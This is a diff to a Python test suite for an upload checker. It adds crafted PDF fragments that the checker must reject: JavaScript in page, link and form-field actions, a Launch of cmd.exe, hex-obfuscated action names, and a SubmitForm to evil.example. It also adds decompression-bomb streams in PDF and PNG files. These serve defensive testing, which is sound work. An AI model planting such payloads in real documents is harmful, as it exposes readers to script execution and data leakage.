@@ -1,6 +1,9 @@
 """Uploads: what a file is, what is taken, and what others see of it."""
 
 import hashlib
+import resource
+import struct
+import zlib
 from contextlib import suppress
 from datetime import timedelta
 from io import BytesIO
@@ -38,9 +41,10 @@ def pdf(pages: int = 1, password: str = "", action: str = "", names: str = "") -
     writer = PdfWriter()
     for _page in range(pages):
         writer.add_blank_page(100, 100)
+    script = {NameObject("/JS"): TextStringObject("1")} if action == "/JavaScript" else {}
     if action:
         writer.root_object[NameObject("/OpenAction")] = writer._add_object(
-            DictionaryObject({NameObject("/S"): NameObject(action), NameObject("/JS"): TextStringObject("1")})
+            DictionaryObject({NameObject("/S"): NameObject(action), **script})
         )
     if names:
         writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject(names): ArrayObject()})
@@ -49,6 +53,24 @@ def pdf(pages: int = 1, password: str = "", action: str = "", names: str = "") -
     out = BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+def by_hand(catalogue: bytes = b"", page: bytes = b"", more: bytes = b"null") -> bytes:
+    """A PDF of one page, with what is given written into its catalogue, its page and an object of its own."""
+    parts = (
+        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]" + page + b">>",
+        more,
+        b"null",
+    )
+    out, places = b"%PDF-1.7\n", []
+    for number, part in enumerate(parts, 1):
+        places.append(len(out))
+        out += b"%d 0 obj\n" % number + part + b"\nendobj\n"
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    head = b"xref\n0 6\n0000000000 65535 f \n" + table
+    return out + head + b"trailer\n<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(out)
 
 
 def photo(kind: str = "JPEG", size: tuple[int, int] = (40, 20), orientation: int = 1) -> bytes:
@@ -128,6 +150,53 @@ def test_a_pdf_that_runs_something_when_opened_is_not_taken(action: str) -> None
         examine(pdf(action=action))
     with pytest.raises(BadUpload, match="含有程序"):
         examine(pdf(names="/JavaScript"))
+
+
+SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+
+
+@pytest.mark.parametrize(
+    ("catalogue", "page"),
+    [
+        (b"", b"/AA<</O " + SCRIPT + b">>"),
+        (b"", b"/Annots[<</Type/Annot/Subtype/Link/A " + SCRIPT + b">>]"),
+        (b"", b"/Annots[<</Type/Annot/Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]"),
+        (b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>]"),
+        (b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next " + SCRIPT + b">>", b""),
+        (b"/OpenAction<</S/J#61vaScript/J#53(1)>>", b""),
+        (b"/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K " + SCRIPT + b">>>>]>>", b""),
+        (b"/AcroForm<</Fields[]/XFA[(a)(b)]>>", b""),
+        (b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>", b""),
+    ],
+)
+def test_a_pdf_that_runs_something_anywhere_else_is_not_taken(catalogue: bytes, page: bytes) -> None:
+    """On turning a page, on a click, after a harmless action, in a form field, under a disguised name."""
+    examine(by_hand())
+    with pytest.raises(BadUpload, match="含有程序"):
+        examine(by_hand(catalogue, page))
+
+
+def test_a_pdf_whose_objects_have_no_end_is_not_followed(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(formats, "MOST_OBJECTS", 3)
+    examine(by_hand(page=b"/Parent 2 0 R/Again 3 0 R"))
+    with pytest.raises(BadUpload, match="太复杂"):
+        examine(by_hand(page=b"/More[4 0 R 5 0 R]"))
+
+
+def test_what_unpacks_to_gigabytes_is_not_unpacked() -> None:
+    """A thousand to one, where a file keeps its table or its pages, or in a text beside a picture."""
+    bomb = zlib.compress(bytes(200_000_000), 9)
+    packed = b"/Length %d/Filter/FlateDecode>>stream\n" % len(bomb) + bomb + b"\nendstream"
+    table = b"%PDF-1.7\n1 0 obj\n<</Type/XRef/Size 9/W[1 2 1]/Root 2 0 R" + packed + b"\nendobj\nstartxref\n9\n%%EOF"
+    picture = photo("PNG")
+    text = b"zTXtk\0\0" + bomb
+    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
+    for data in (table, picture[:33] + chunk + picture[33:]):
+        with pytest.raises(BadUpload, match="损坏"):
+            examine(data)
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    examine(by_hand(page=b"/Contents 4 0 R", more=b"<<" + packed))
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
 
 
 def test_a_pdf_that_only_opens_at_a_page_or_has_a_file_within_is_taken() -> None:
